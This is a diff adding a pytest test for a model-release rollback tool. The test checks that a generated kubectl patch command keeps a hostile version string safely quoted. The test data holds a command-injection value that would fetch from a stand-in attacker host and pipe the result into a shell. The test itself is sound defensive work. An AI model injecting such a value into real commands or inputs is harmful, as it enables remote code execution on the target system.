@@ -6,7 +6,10 @@ from datetime import datetime, timedelta
 
 import pytest
 
+from surefoot.api.spec import ModelReleaseSpec
+from surefoot.api.status import PastRelease
 from surefoot.engine.questions import Problem, ProblemKind
+from surefoot.engine.rollback import command
 from surefoot.stats.measures import Histogram, LabeledScores
 from tests.scenarios.memory import CrashError
 from tests.scenarios.specs import candidate, errors, workload
@@ -94,6 +97,21 @@ async def test_the_command_goes_back_to_the_version_before():
     assert "RolledBack" in world.decided()
     assert world.weight() == 100
     assert world.condition("Watched")[0] != "False"
+
+
+async def test_a_version_cannot_end_the_quotes_of_the_command():
+    version = "1';curl${IFS}evil.example|sh;'"
+    target = PastRelease(
+        id="a", version=version, workload="fraud-v41", backend={"name": "fraud-v41", "port": 80},
+        fingerprint="f", outcome="Promoted", reason="Promoted", ended_at="2026-01-01T00:00:00Z",
+    )  # fmt: skip
+    world = await promoted()
+    made = command(ModelReleaseSpec.model_validate(world.spec), "risk", "fraud", target)
+    *words, patch = shlex.split(made)
+    assert words == [
+        "kubectl", "patch", "modelreleases.surefoot.dev", "fraud", "-n", "risk", "--type=merge", "-p",
+    ]  # fmt: skip
+    assert json.loads(patch)["spec"]["candidate"]["version"] == version
 
 
 async def test_a_signal_without_watch_is_left_alone_after_the_promotion():
